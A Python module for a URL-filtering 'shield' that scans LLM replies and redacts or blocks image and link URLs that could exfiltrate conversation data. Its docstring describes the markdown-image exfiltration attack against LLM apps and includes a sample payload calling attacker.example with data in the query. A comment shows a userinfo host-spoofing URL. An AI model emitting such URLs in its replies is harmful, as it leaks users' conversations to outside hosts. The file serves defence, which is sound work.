"""``links``: URLs in text — images that a chat UI fetches without a click, and links.

The best-known exfiltration path against LLM apps is a reply that carries the conversation out
in a URL: ``![logo](https://attacker.example/p.png?q=<data>)`` is fetched by the UI as soon as it
is rendered. This shield finds the URLs a renderer would use and judges each by its *kind* and
its *host*:

- **image** (fetched without a click): a markdown image ``![alt](url)``, a reference definition
  ``[id]: url`` (it may serve ``![x][id]``, before or after it, so it is judged as an image), an
  ``<img src=...>`` or any other URL inside an HTML or SVG tag but the ``href`` of an ``<a>`` or
  ``<area>`` (``<link href>``, ``<svg><image href>``, ``<use xlink:href>``, ``<iframe src>``,
  ``<object data>``, ``<video poster>``, each ``srcset`` candidate, ...), a CSS ``url(...)`` or
  ``@import "..."``, any URL in the CSS of a ``<style>`` element (``image-set("...")`` too);
- **link** (a click away): a markdown link ``[text](url)``, an autolink ``<url>``, an
  ``<a href=...>`` or ``<area href=...>`` (``xlink:href`` too), a bare ``http(s)://`` or ``www.``
  URL.

Whether a URL is inside a tag, and which, does not depend on how far back the tag's ``<`` is:
``shields.builtin.links_tags`` keeps the tag state as the text is read, as a browser's
tokenizer does (a ``>`` inside a quoted attribute value does not close the tag). A ``<`` followed
by a letter opens a tag until the next ``>``, however far: in code ("if a<b") that makes the
URLs up to the next ``>`` images, the stricter reading. Nor does a run of whitespace between a
URL and its markup (``![x](`` and 2000 spaces, ``url(`` and blank lines, ``src=`` and
newlines) hide the markup: a scanner keeps the context before such a run, the run itself cut
to a stand-in that reads the same. A ``//`` counts as a scheme-relative URL where one begins,
not after a letter, a digit or ``+/\\._-~%@`` (base64 data or a path in an attribute).

A *relative* URL (``/p.png?q=...``, ``images/a.png``, ``www.example.com/p.png`` as a markdown
destination) is not judged: it has no host of its own, and a browser fetches it from the
origin of the page that shows the reply, the chat UI's own server, which already holds the
conversation. A UI that rewrites relative URLs to another host (a proxy for images, a CDN)
makes them absolute before rendering: that is where to check them.

A URL is *allowed* when its host matches ``allow_hosts`` (after IDNA and lower-casing; an IP
literal or a URL with userinfo never matches an entry other than ``*``) and it does not carry
data (a query, fragment or path segment longer than a bound, or a long high-entropy
component); ``images`` and ``links`` say what happens to the others: ``redact`` (the URL alone
is replaced, the alt or link text stays), ``block`` or ``allow``.

The shield reads the ORIGINAL text (``matches_raw``): paths and queries are case-sensitive, and
the normalized view folds lookalike letters to ASCII, which would make ``аpple.com`` (Cyrillic
"а") read as ``apple.com``; hosts are compared in their IDNA form instead, where it is
``xn--pple-43d.com``.

Where a URL ends is where a renderer ends it, per context: an unbracketed markdown destination
at an ASCII space or control character or an unbalanced ``)``; ``<...>`` at ``>`` or a line
end; a quoted HTML attribute at its closing quote; a bare URL at ASCII whitespace or one of
``<>"`[]`` (characters a URL cannot hold unescaped), less trailing punctuation (as GFM does).
Judging a URL shorter than the renderer's would let the rest of it leave unchecked, so the ends
err long.

Streams: a URL is a token-shaped match. Its scanner reports it when the character that ends it
arrives (or at ``finish``), and holds (``open_from``) only from the start of a URL that may
still grow and that it may still report — a URL of a kind whose action is ``allow`` holds
nothing, nor does prose, but for the last characters that may begin one ("htt", "www").
A URL of ``max_url_chars`` characters that has not ended yet carries data by that rule alone:
it is reported then, in pieces of ``max_url_chars`` (contiguous, so a redaction merges them
into one placeholder), and ``max_match`` is ``max_url_chars``: no character of an over-long URL
leaves before the piece that holds it is reported.
"""

from __future__ import annotations

import enum
import math
import re
import urllib.parse
from collections import Counter
from collections.abc import Sequence
from dataclasses import dataclass
from typing import Literal

from pydantic import Field, field_validator, model_validator

from shields.base import NOTHING_OPEN, Action, Chunk, Finding, OpenAt, Scanner, Shield
from shields.builtin.links_tags import Tags
from shields.builtin.regex import Searcher, compile_pattern, searcher
from shields.normalize import StreamNormalizer
from shields.registry import register
from shields.screen import WholeText
from shields.spec import ShieldSpecBase

__all__ = ["AllowEntry", "LinksShield", "LinksSpec", "judge_url", "parse_entry"]

KindAction = Literal["redact", "block", "allow"]


class Kind(enum.StrEnum):
    IMAGE = "image"
    LINK = "link"


# -- the spec --------------------------------------------------------------------------------


class LinksSpec(ShieldSpecBase):
    type: Literal["links"] = "links"
    # A space makes a markdown destination invalid: `![alt]([URL REDACTED])` renders as text,
    # so nothing is fetched, not even a relative URL on the UI's own origin.
    placeholder: str = Field(default="[URL REDACTED]", max_length=200)
    # Hosts whose URLs may stay: "example.com" (exactly), "*.example.com" (any subdomain, not
    # example.com itself), "https://docs.example.com" (that scheme only), "host:8443" (that
    # port), "*" (any host: only the data rule applies).
    allow_hosts: list[str] = Field(default_factory=list, max_length=10000)
    images: KindAction = "redact"
    links: KindAction = "allow"
    # The data rule: a URL that carries more than this is not allowed, whatever its host.
    max_url_chars: int = Field(default=150, ge=16, le=4096)
    max_query_chars: int = Field(default=64, ge=0, le=4096)
    max_fragment_chars: int = Field(default=64, ge=0, le=4096)
    max_segment_chars: int = Field(default=64, ge=1, le=4096)
    # A path segment, query key or value, fragment or host label at least this long whose
    # characters carry at least ``max_entropy`` bits each looks like encoded data.
    entropy_min_chars: int = Field(default=24, ge=8, le=4096)
    max_entropy: float = Field(default=4.3, gt=0.0, le=8.0)

    @model_validator(mode="before")
    @classmethod
    def _no_action(cls, value: object) -> object:
        if isinstance(value, dict) and "action" in value:
            raise ValueError(
                "a links shield takes `images:` and `links:` (redact | block | allow) "
                "instead of `action`"
            )
        return value

    @field_validator("allow_hosts")
    @classmethod
    def _entries(cls, value: list[str]) -> list[str]:
        for i, entry in enumerate(value):
            try:
                parse_entry(entry)
            except ValueError as exc:
                raise ValueError(f"allow_hosts[{i}]: {exc}") from None
        return value


# -- hosts -----------------------------------------------------------------------------------

_DEFAULT_PORTS = {"http": 80, "https": 443}
# Characters that IDNA 2003 (Python's codec) maps away but browsers (UTS 46, nontransitional)
# keep: "faß.de" would be judged as "fass.de" and fetched from "xn--fa-hia.de".
_DEVIATIONS = frozenset("ßς\u200c\u200d")
_DOTS = str.maketrans({"\u3002": ".", "\uff0e": ".", "\uff61": "."})
_HOST_CHARS = frozenset("abcdefghijklmnopqrstuvwxyz0123456789-_.")


def ascii_host(host: str) -> str | None:
    """``host`` as a browser resolves it: percent-decoded, IDNA (punycode), lower case, no
    trailing dot; None when it is no valid host name."""
    host = urllib.parse.unquote(host).translate(_DOTS).rstrip(".")
    if not host or any(c in _DEVIATIONS for c in host):
        return None
    try:
        encoded = host.encode("idna").decode("ascii").lower()
    except UnicodeError:
        return None
    if not encoded or not set(encoded) <= _HOST_CHARS or ".." in encoded:
        return None
    return encoded


def is_ip(host: str) -> bool:
    """An IP literal, as the WHATWG URL parser reads one: ``[v6]``, or a host whose last label
    is a number (``127.0.0.1``, ``2130706433``, ``0x7f.1``)."""
    if host.startswith("["):
        return True
    last = host.rsplit(".", 1)[-1]
    return last.isdigit() or (
        last.startswith("0x") and all(c in "0123456789abcdef" for c in last[2:])
    )


@dataclass(frozen=True, slots=True)
class AllowEntry:
    """One ``allow_hosts`` entry: a host (or ``*.suffix``, or ``*``), a scheme, a port."""

    host: str  # IDNA form; for a wildcard, the suffix without "*."
    wildcard: bool = False
    any_host: bool = False
    scheme: str | None = None
    port: int | None = None


def parse_entry(entry: str) -> AllowEntry:
    text = entry.strip()
    if text == "*":
        return AllowEntry("", any_host=True)
    scheme = None
    if "://" in text:
        scheme, text = text.split("://", 1)
        scheme = scheme.lower()
        if scheme not in _DEFAULT_PORTS:
            raise ValueError(f"{entry!r}: the scheme must be http or https")
    if any(c in text for c in "/?#@"):
        raise ValueError(f"{entry!r}: a host, `*.suffix` or `scheme://host`, without a path")
    port = None
    if ":" in text:
        text, _, port_text = text.rpartition(":")
        if not port_text.isdigit() or not 0 < int(port_text) < 65536:
            raise ValueError(f"{entry!r}: bad port")
        port = int(port_text)
    wildcard = text.startswith("*.")
    host = ascii_host(text[2:] if wildcard else text)
    if host is None or "*" in text[1:]:
        raise ValueError(f"{entry!r}: not a host name (IDNA)")
    if is_ip(host):
        # The parser reads "0x7f.1", "2130706433" and "127.1" as one address: an entry would
        # match only one spelling of it, so addresses are only ever allowed by "*".
        raise ValueError(f"{entry!r}: an IP address; only `*` allows those")
    return AllowEntry(host, wildcard=wildcard, scheme=scheme, port=port)


# -- judging one URL -------------------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class DataRule:
    max_query: int
    max_fragment: int
    max_segment: int
    entropy_min: int
    max_entropy: float


def shannon_entropy(text: str) -> float:
    """Bits per character of ``text`` under its own character frequencies."""
    size = len(text)
    return -sum(n / size * math.log2(n / size) for n in Counter(text).values()) if size else 0.0


@dataclass(frozen=True, slots=True)
class _Parts:
    scheme: str | None  # None: scheme-relative ("//host")
    authority: str
    rest: str  # path, query and fragment


def _parts(url: str) -> _Parts:
    # What the WHATWG parser ignores or rewrites in an http(s) URL: tabs and line breaks
    # anywhere, leading spaces, "\" for "/", and any number of slashes after the scheme.
    url = url.translate({9: None, 10: None, 13: None}).lstrip(" ").replace("\\", "/")
    lower = url[:8].lower()
    scheme: str | None
    if lower.startswith(("http:", "https:")):
        scheme, url = url.split(":", 1)
        scheme = scheme.lower()
    elif lower.startswith("www."):
        scheme = "http"  # how linkifiers complete it
    else:
        scheme = None
    url = url.lstrip("/")
    cut = min((i for i in (url.find(c) for c in "/?#") if i >= 0), default=len(url))
    return _Parts(scheme, url[:cut], url[cut:])


def judge_url(url: str, allow: tuple[AllowEntry, ...], rule: DataRule) -> str | None:
    """Why ``url`` is not allowed ("host", "userinfo", "ip", "bad_host", "data"), or None."""
    parts = _parts(url)
    reason = _host_reason(parts, allow)
    if reason is not None:
        return reason
    return "data" if _carries_data(parts, rule) else None


def _host_reason(parts: _Parts, allow: tuple[AllowEntry, ...]) -> str | None:
    any_host = any(entry.any_host for entry in allow)
    authority = parts.authority
    if "@" in authority:
        # "https://allowed.com@evil.com/" goes to evil.com; userinfo has no place in a reply.
        return None if any_host else "userinfo"
    port: int | None = None
    host_text = authority
    if not authority.startswith("[") and ":" in authority:
        host_text, _, port_text = authority.rpartition(":")
        if port_text:
            if not port_text.isdigit():
                return None if any_host else "bad_host"
            port = int(port_text)
    if any_host:
        return None
    if host_text.startswith("[") or is_ip(host_text.lower()):
        return "ip"
    host = ascii_host(host_text)
    if host is None:
        return "bad_host"
    if is_ip(host):
        return "ip"
    default = _DEFAULT_PORTS.get(parts.scheme or "")
    for entry in allow:
        if entry.scheme is not None and entry.scheme != parts.scheme:
            continue
        if entry.port is not None:
            if (port if port is not None else default) != entry.port:
                continue
        elif port is not None and port != default:
            continue
        if host == entry.host if not entry.wildcard else host.endswith("." + entry.host):
            return None
    return "host"


def _carries_data(parts: _Parts, rule: DataRule) -> bool:
    rest = parts.rest
    fragment = ""
    if "#" in rest:
        rest, fragment = rest.split("#", 1)
    query = ""
    if "?" in rest:
        rest, query = rest.split("?", 1)
    if len(query) > rule.max_query or len(fragment) > rule.max_fragment:
        return True
    pieces = [*rest.split("/"), fragment]
    for pair in query.split("&"):
        pieces += pair.split("=")
    if any(len(piece) > rule.max_segment for piece in pieces):
        return True
    # Host labels too: "<data>.allowed-by-suffix.com" carries it in a subdomain.
    pieces += parts.authority.split(".")
    return any(
        len(piece) >= rule.entropy_min and shannon_entropy(piece) >= rule.max_entropy
        for piece in pieces
    )


# -- finding URLs in a stream ----------------------------------------------------------------


class Mode(enum.Enum):
    """Where a URL ends, by the context it starts in."""

    BARE = "bare"  # ASCII whitespace or <>"`[] ; trailing punctuation trimmed
    MD_DEST = "md_dest"  # ASCII space/controls or an unbalanced ")"
    ANGLE = "angle"  # ">" "<" or a line end
    REF = "ref"  # ASCII space/controls
    DQ = "dq"  # the closing double quote
    SQ = "sq"  # the closing single quote
    UNQUOTED = "unquoted"  # an unquoted attribute value: ASCII space/controls or ">"
    CSS = "css"  # an unquoted CSS url(...): ")" or ASCII space/controls
    # A srcset candidate: ASCII whitespace or the attribute's closing quote. The next candidate
    # is a URL of its own (after ", "), found again inside the tag.
    SRCSET_DQ = "srcset_dq"
    SRCSET_SQ = "srcset_sq"


_SPACE = r"\x00-\x20\x7f"
_END_CLASSES = {
    Mode.BARE: rf'[{_SPACE}<>"`\[\]]',
    Mode.MD_DEST: rf"[{_SPACE}()]",
    Mode.ANGLE: r"[\n\r<>]",
    Mode.REF: rf"[{_SPACE}]",
    Mode.DQ: r'["]',
    Mode.SQ: r"[']",
    Mode.UNQUOTED: rf"[{_SPACE}>]",
    Mode.CSS: rf"[{_SPACE})\"']",
    Mode.SRCSET_DQ: rf'[{_SPACE}"]',
    Mode.SRCSET_SQ: rf"[{_SPACE}']",
}
_ENDS: dict[Mode, Searcher] = {
    mode: searcher(compile_pattern(pattern, case_sensitive=True, capture=False))
    for mode, pattern in _END_CLASSES.items()
}
# Every URL starts with one of these; which count depends on the context (``_context``).
_STARTS = searcher(
    compile_pattern(r"(?i:https?:)|[/\\][/\\]|(?i:www\.)", case_sensitive=True, capture=False)
)
# The ends of a text that may still become a start ("htt", "ww", "/"): "h", "ht", "htt",
# "http", "https", "w", "ww", "www", "/" or "\\", the letters in either case (as ``lower()``
# reads them: no other character lowers to one of them), and the characters they end with.
_PARTIAL_AT_END = re.compile(r"(?:[hH](?:[tT](?:[tT](?:[pP][sS]?)?)?)?|[wW]{1,3}|[/\\])\Z")
_PARTIAL_ENDS = frozenset("hHtTpPsSwW/\\")
# The last characters of a partial that another must come before ("ht", "htt", "http",
# "https"), and which may: any other before them ends no partial.
_PARTIAL_AFTER = {
    **dict.fromkeys("tT", frozenset("hHtT")),
    **dict.fromkeys("pP", frozenset("tT")),
    **dict.fromkeys("sS", frozenset("pP")),
}
_TRAILING = frozenset(".,:;!?*_~'")
# The only URLs inside a tag that wait for a click: the href of an <a> or <area> (HTML and
# SVG). Elsewhere href is fetched at once (<link rel=stylesheet|icon|preload>, <svg><image>,
# <use>, <feImage>), and so is any other URL attribute (src, data, poster, srcset, ...); a form's
# action is judged as an image too: stricter, and no reply needs one.
_CLICKED_TAGS = frozenset({"a", "area"})
_CLICKED_ATTRIBUTES = frozenset({"href", "xlink:href"})
# Attributes that hold a list of "url descriptor" candidates, each one fetched.
_SRCSET_ATTRIBUTES = frozenset({"srcset", "imagesrcset"})
# Characters that make "www." or "//" the middle of a word, path or base64 data, not a URL's
# start.
_JOINS_WWW = "._-@/"
_JOINS_SLASHES = "._-@/\\+~%"
# Whitespace to CSS (before a url(...) or @import argument), HTML (around "=") and markdown.
_SPACES = " \t\n\r\f"
_CSS_SPACE = frozenset(_SPACES)
# A run of whitespace longer than this before a possible URL is kept as a short stand-in.
_SQUEEZE_FROM = 512
_SQUASH = re.compile(r"[ \t]+")
_SRCSET_MODES = {'"': Mode.SRCSET_DQ, "'": Mode.SRCSET_SQ}
# How much text before a URL (before the whitespace in front of it) is kept for its context:
# the "[" of a link text ("](" within it), an attribute name, "url(". A tag's "<" may be any
# distance back (``links_tags``).
CONTEXT = 256
_MAX_BRACKETS = 32


@dataclass(slots=True)
class _Run:
    """The URL being read: from ``start``; ``scan`` is how far its end was looked for."""

    start: int
    kind: Kind
    mode: Mode
    checked: bool  # its kind's action is not ``allow``: it may be reported
    scan: int
    piece: int  # the first character not yet reported (over-long URLs are reported in pieces)
    depth: int = 0  # open parentheses (markdown destinations)
    overlong: bool = False


class LinksShield(Shield):
    type_name = "links"

    def __init__(self, spec: LinksSpec) -> None:
        super().__init__(spec)
        self.matches_raw = True  # paths and queries are case-sensitive; hosts go through IDNA
        self.allow = tuple(parse_entry(entry) for entry in spec.allow_hosts)
        self.rule = DataRule(
            spec.max_query_chars,
            spec.max_fragment_chars,
            spec.max_segment_chars,
            spec.entropy_min_chars,
            spec.max_entropy,
        )
        self.actions = {Kind.IMAGE: spec.images, Kind.LINK: spec.links}
        self.max_url = spec.max_url_chars
        self.placeholder = spec.placeholder

    @property
    def max_match(self) -> int:
        # A URL is reported when the character after it arrives, or once it is max_url_chars
        # long; a shield that checks nothing holds nothing.
        if all(action == "allow" for action in self.actions.values()):
            return 1
        return self.max_url

    def scanner(self) -> Scanner:
        return _LinksScanner(self)

    def screen(self, text: WholeText) -> bool:
        # Every URL starts where ``_STARTS`` finds something in the text's ASCII view, the
        # bytes the scanner searches: without such a place it begins no URL and reports none.
        view = text.ascii
        return _STARTS(view, 0, len(view))[0][0] >= 0

    def url_finding(self, kind: Kind, reason: str, start: int, end: int) -> Finding:
        action = self.actions[kind]
        return Finding(
            shield_id=self.id,
            shield_type=self.type_name,
            label=f"{kind.value}.{reason}",
            action=Action.BLOCK if action == "block" else Action.REDACT,
            start=start,
            end=end,
            placeholder=self.placeholder,
            monitor=self.monitor,
        )


class _LinksScanner(Scanner):
    """Finds URLs in one text, fed in pieces.

    ``_buf`` holds the text from offset ``_off`` (and ``_bytes`` its ASCII view, for RE2: any
    other character becomes "?", one byte for one character, and no URL syntax is non-ASCII);
    ``_pos`` is the first position not yet looked at for the start of a URL, ``_run`` the URL
    being read, and ``_undecided`` a bare "https:" that waits for its slashes.
    """

    __slots__ = (
        "_buf",
        "_bytes",
        "_end",
        "_judged",
        "_off",
        "_pos",
        "_real",
        "_run",
        "_shield",
        "_squeezed_at",
        "_tags",
        "_track",
        "_undecided",
        "_ws_from",
        "_ws_pos",
        "open_at",
    )

    def __init__(self, shield: LinksShield) -> None:
        self._shield = shield
        self._buf = ""
        self._bytes = b""
        self._off = 0
        self._end = 0
        self._pos = 0
        self._run: _Run | None = None
        self._undecided: int | None = None
        # Whether a position is inside an HTML tag, and which: read on as far as ``_pos``
        # (or a URL's start), whatever the distance to the tag's "<".
        self._tags = Tags()
        # ``_buf`` from ``_real`` on is the text; before it, after a long run of whitespace,
        # it may hold a stand-in (``_squeeze``): the context before the run, then (from
        # ``_squeezed_at``, in ``_off``'s terms) the run cut short.
        self._real = 0
        self._squeezed_at = 0
        # The start of the run of whitespace that ends at ``_ws_pos`` (``_whitespace_from``).
        self._ws_pos = 0
        self._ws_from = 0
        # Whether a link and an image are judged (``_checks``), for ``open_from``.
        self._judged = (self._checks(Kind.LINK), self._checks(Kind.IMAGE))
        self._track = False
        self.open_at = NOTHING_OPEN

    def track_open(self) -> Sequence[OpenAt]:
        self._track = True
        return (self,)

    def feed(self, chunk: Chunk) -> list[Finding]:
        raw = chunk.raw
        if not raw:
            return []
        self._buf += raw
        self._bytes += raw.encode("ascii", "replace")
        self._end += len(raw)
        if (
            self._run is None
            and self._undecided is None
            and ":" not in raw
            and "." not in raw
            and "/" not in raw
            and "\\" not in raw
        ):
            # Most tokens of prose. Every start (``_STARTS``) ends with ":", ".", "/" or "\\"
            # (ASCII: no case folding reaches them, and ``_bytes`` reads any other character as
            # "?"), so none ends in this text; and the last search from ``_pos`` found none
            # that ends before it (else a URL would be read, or waiting for its slashes). So
            # the search would find nothing: only what it does then is done.
            found: list[Finding] = []
            self._pos = max(self._pos, self._end - 5)
        else:
            found = self._advance(final=False)
        self._forget()
        if self._track:
            # ``open_from``'s usual answer first: no URL read or waiting, and a last character
            # that ends no partial start ("h", "ht", "htt", "http", "https", "w"..., "/").
            last = raw[-1]
            if (
                self._run is None
                and self._undecided is None
                and (
                    last not in _PARTIAL_ENDS
                    or (last in _PARTIAL_AFTER and self._buf[-2:-1] not in _PARTIAL_AFTER[last])
                )
            ):
                self.open_at = NOTHING_OPEN
            else:
                self.open_at = self.open_from(self._end, 0)
        return found

    def finish(self, normalizer: StreamNormalizer) -> list[Finding]:
        return self._advance(final=True)

    def open_from(self, end: int, window: int) -> int:
        run = self._run
        if run is not None:
            return run.piece if run.checked else end
        undecided = self._undecided
        if undecided is not None:
            return undecided if self._judged[0] else end
        # Every partial ends with one of a few ASCII letters ("htt", "ww", "/"): any other
        # last character (and lower() maps no other character to them) settles it at once.
        buf = self._buf
        if not buf or buf[-1] not in _PARTIAL_ENDS:
            return end
        return self._partial_start(end)

    # -- reading ---------------------------------------------------------------------------

    def _advance(self, *, final: bool) -> list[Finding]:
        found: list[Finding] = []
        while True:
            run = self._run
            if run is not None:
                stop = self._run_end(run)
                if stop is None:
                    run.scan = self._end
                    if not final:
                        self._pieces(run, self._end, found)
                        return found
                    stop = self._end
                self._close(run, stop, found)
                self._run = None
                self._pos = stop
                continue
            if not self._next_start(final):
                return found

    def _next_start(self, final: bool) -> bool:
        """Looks for the next URL from ``_pos``; True when a run was started."""
        self._undecided = None
        data, off, end = self._bytes, self._off, self._end
        while True:
            hit = _STARTS(data, self._pos - off, len(data))[0]
            if hit[0] < 0:
                # A start may still be forming in the last characters: looked at again.
                self._pos = max(self._pos, end - 5)
                return False
            start, stop = off + hit[0], off + hit[1]
            token = data[hit[0] : hit[1]].lower()
            # Every URL found from here on starts at ``start`` or later.
            self._tags.advance(data, off, start)
            context = self._context(start)
            if token.startswith(b"http"):
                if context is None:
                    slashes = data[hit[1] : hit[1] + 2]
                    if len(slashes) < 2 and not final:
                        self._undecided = self._pos = start
                        return False
                    if len(slashes) == 2 and all(c in b"/\\" for c in slashes):
                        self._begin(start, Kind.LINK, Mode.BARE)
                        return True
                else:
                    self._begin(start, *context)
                    return True
            elif token == b"www.":
                if context is None and self._boundary(start, _JOINS_WWW):
                    self._begin(start, Kind.LINK, Mode.BARE)
                    return True
            elif context is not None and self._boundary(start, _JOINS_SLASHES):
                # "//host": scheme-relative, only where a URL goes and where one begins (not
                # the "//" inside base64 data or a path: `<img src="data:...A//B...">`)
                self._begin(start, *context)
                return True
            self._pos = stop if token == b"www." else start + 1

    def _begin(self, start: int, kind: Kind, mode: Mode) -> None:
        checked = self._checks(kind)
        self._run = _Run(start, kind, mode, checked, scan=start, piece=start)

    def _checks(self, kind: Kind) -> bool:
        return self._shield.actions[kind] != "allow"

    def _boundary(self, start: int, joins: str) -> bool:
        """Whether a URL may begin at ``start``: not after a letter, a digit or ``joins``."""
        if start == 0:
            return True
        if start - 1 < self._off:
            return False
        before = self._buf[start - 1 - self._off]
        return not (before.isalnum() or before in joins)

    def _run_end(self, run: _Run) -> int | None:
        """Where ``run`` ends, if the text says so yet."""
        data, off = self._bytes, self._off
        search = _ENDS[run.mode]
        pos = run.scan - off
        size = len(data)
        while True:
            hit = search(data, pos, size)[0][0]
            if hit < 0:
                run.scan = off + size
                return None
            char = data[hit]
            if run.mode in (Mode.MD_DEST, Mode.ANGLE) and _escaped(
                data, hit, max(run.start - off, 0)
            ):
                pos = hit + 1  # "\)" and "\>" are part of the destination
                continue
            if run.mode is Mode.MD_DEST and char in b"()":
                if char == ord("("):
                    run.depth += 1
                    pos = hit + 1
                    continue
                if run.depth:
                    run.depth -= 1
                    pos = hit + 1
                    continue
            run.scan = off + hit
            return off + hit

    def _pieces(self, run: _Run, limit: int, found: list[Finding]) -> None:
        """A URL of ``max_url_chars`` carries data by its length alone: it is reported in
        pieces of that size as its characters arrive (up to ``limit``), the same pieces in
        any chunking."""
        if not run.checked:
            return
        size = self._shield.max_url
        while limit - run.piece >= size:
            run.overlong = True
            found.append(self._shield.url_finding(run.kind, "long", run.piece, run.piece + size))
            run.piece += size

    def _close(self, run: _Run, stop: int, found: list[Finding]) -> None:
        if not run.checked:
            return
        shield = self._shield
        if run.overlong or stop - run.start >= shield.max_url:
            # No trimming here: the pieces already sent out are fixed by the length alone.
            self._pieces(run, stop, found)
            if stop > run.piece:
                found.append(shield.url_finding(run.kind, "long", run.piece, stop))
            return
        url = self._buf[run.start - self._off : stop - self._off]
        if run.mode is Mode.BARE:
            url = _trim(url)
            if url.lower() == "www" or not _parts(url).authority:
                return  # "https://" or "www." alone: no renderer makes a link of that
        reason = judge_url(url, shield.allow, shield.rule)
        if reason is not None:
            found.append(shield.url_finding(run.kind, reason, run.start, run.start + len(url)))

    # -- context ---------------------------------------------------------------------------

    def _context(self, start: int) -> tuple[Kind, Mode] | None:
        """The kind and end rule of a URL starting at ``start`` where a destination goes
        (markdown, HTML, CSS), or None for a bare one."""
        buf, off = self._buf, self._off
        i = start - off
        angle = i > 0 and buf[i - 1] == "<"
        quote = buf[i - 1] if i > 0 and buf[i - 1] in "\"'" else ""
        j = i - 1 if angle or quote else i
        k = j
        while k > 0 and buf[k - 1] in " \t":
            k -= 1
        if k > 0 and buf[k - 1] == "\n":
            k -= 1
            if k > 0 and buf[k - 1] == "\r":
                k -= 1
            while k > 0 and buf[k - 1] in " \t":
                k -= 1
        before = buf[max(k - 2, 0) : k]
        if not quote and before == "](":
            return self._bracket_kind(k - 2), Mode.ANGLE if angle else Mode.MD_DEST
        if not quote and before == "]:":
            return Kind.IMAGE, Mode.ANGLE if angle else Mode.REF
        css = j  # CSS takes any whitespace before a url(...) or @import argument
        while css > 0 and buf[css - 1] in _CSS_SPACE:
            css -= 1
        if buf[max(css - 4, 0) : css].lower() == "url(":
            return Kind.IMAGE, _quoted(quote) or Mode.CSS
        if quote and buf[max(css - 7, 0) : css].lower() == "@import":
            # CSS fetches an @import string at once, like url(...): `@import "https://..."`.
            return Kind.IMAGE, _quoted(quote) or Mode.CSS
        tag = self._tag(i)
        if tag is not None:
            if not angle and k > 0 and buf[k - 1] == "=":
                name = _attribute(buf, k - 1)
                if tag in _CLICKED_TAGS and name in _CLICKED_ATTRIBUTES:
                    return Kind.LINK, _quoted(quote) or Mode.UNQUOTED
                if name in _SRCSET_ATTRIBUTES:
                    return Kind.IMAGE, _SRCSET_MODES.get(quote, Mode.UNQUOTED)
                return Kind.IMAGE, _quoted(quote) or Mode.UNQUOTED
            return Kind.IMAGE, _quoted(quote) or Mode.BARE
        if angle:
            return Kind.LINK, Mode.ANGLE  # an autolink, <https://...>
        return None

    def _bracket_kind(self, close: int) -> Kind:
        """``buf[close]`` is the "]" of "](": an image when its "[" follows a "!"; an image
        too when that "[" is not found near enough (the stricter reading)."""
        buf = self._buf
        low = max(close - CONTEXT, 0)
        depth = 0
        at = close + 1
        for _ in range(_MAX_BRACKETS):
            opening = buf.rfind("[", low, at)
            closing = buf.rfind("]", low, at)
            if opening < 0 and closing < 0:
                break
            if closing > opening:
                depth += 1
                at = closing
                continue
            depth -= 1
            at = opening
            if depth == 0:
                return Kind.IMAGE if opening > 0 and buf[opening - 1] == "!" else Kind.LINK
        return Kind.IMAGE

    def _tag(self, i: int) -> str | None:
        """The name (lower case, as written: "a", "svg:image") of the HTML tag ``buf[i]`` is
        inside, ``style`` in a style element's CSS, None outside a tag (``links_tags``)."""
        at = self._off + i
        tags, data, off = self._tags, self._bytes, self._off
        # Kept read on as far as ``_pos``, never past it: a URL may still start there.
        tags.advance(data, off, min(at, self._pos))
        assert at >= tags.at, "the tag state is read back"
        return tags.name_at(data, off, at)

    # -- holding and forgetting ------------------------------------------------------------

    def _partial_start(self, end: int) -> int:
        """The start of a URL that may still be forming at the end of the text, which ends
        with one of ``_PARTIAL_ENDS``."""
        buf = self._buf
        size = min(5, len(buf), end - self._pos)
        # The longest partial the text ends with (the leftmost match from ``size`` back).
        found = _PARTIAL_AT_END.search(buf, len(buf) - size) if size > 0 else None
        if found is None:
            return end
        start = end - (len(buf) - found.start())
        if buf[-1] in "/\\":  # "/" alone: only where a URL goes (markdown, HTML, CSS)
            context = self._context(start)
            return start if context is not None and self._checks(context[0]) else end
        link, image = self._judged
        if link == image:
            return start if link else end  # whatever its context: no need to read it
        i = start - self._off
        if i > 0 and buf[i - 1].isalnum():
            # After a letter ("wit|h"), ``_context`` finds no markdown, CSS or quote: only
            # an HTML tag around it makes an image of it.
            return start if (image if self._tag(i) is not None else link) else end
        context = self._context(start)
        is_image = context is not None and context[0] is Kind.IMAGE
        return start if (image if is_image else link) else end

    def _forget(self) -> None:
        """Drops text no decision needs any more: before the context of the next start."""
        off = self._off
        run = self._run
        # ``keep``: the first character a decision still reads; ``look``: where the look-back
        # of the next URL's context may begin (any URL still to be found starts there or
        # later); ``squeezable``: whether the text between them may be a stand-in (no URL text
        # is sliced out of it: an over-long URL is reported by its length alone).
        if run is None:
            keep = look = self._pos
            squeezable = True
        else:
            look = run.scan
            squeezable = not run.checked or run.overlong
            keep = run.scan if not run.checked else run.piece if run.overlong else run.start
        cut = keep - CONTEXT - off
        if not (cut > 4096 or cut > len(self._buf) // 2 > 0):
            return
        # A URL that starts after a run of whitespace (and a quote or "<") reads its context
        # from before the run ("](", "url(", "src="; markdown and CSS take any number of
        # spaces there), be it the text of the URL before it.
        if look > self._real and self._buf[look - 1 - off] in "\"'<":
            look -= 1
        space = self._whitespace_from(look)
        if space < look:
            if squeezable and look - max(space, self._real) > _SQUEEZE_FROM:
                self._squeeze(space, look)
                return
            keep = min(keep, space if space >= self._real else off + CONTEXT)  # a stand-in
            cut = keep - CONTEXT - off
        if cut > 0:
            # Every URL still to be found starts at ``keep`` or later: the tag state is read
            # on before the text goes (and the CSS of a style element keeps the last bytes
            # where its end tag may have begun).
            self._tags.advance(self._bytes, off, off + cut)
            cut = min(cut, self._tags.needed_from() - off)
            if cut <= 0:
                return
            self._buf = self._buf[cut:]
            self._bytes = self._bytes[cut:]
            self._off = off = off + cut
            self._real = max(self._real, off)

    def _whitespace_from(self, keep: int) -> int:
        """Where the run of whitespace that ends at ``keep`` starts (``keep`` when there is
        none). ``keep`` never goes back: each character is looked at once."""
        pos, start = self._ws_pos, self._ws_from
        if keep <= pos:
            return start
        buf, off = self._buf, self._off
        low = max(pos, self._real)
        if keep > low and buf[keep - 1 - off] not in _SPACES:  # prose, mostly
            start = keep
        else:
            # Windows growing back from ``keep``: a long text is not copied for a short run.
            size = 64
            while True:
                lo = max(low, keep - size)
                segment = buf[lo - off : keep - off]
                solid = len(segment.rstrip(_SPACES))
                if solid:
                    start = lo + solid
                    break
                if lo == low:
                    if low > pos:
                        start = low  # the run goes on into the text before ``_real``
                    break
                size *= 4
        self._ws_pos, self._ws_from = keep, start
        return start

    def _squeeze(self, space: int, keep: int) -> None:
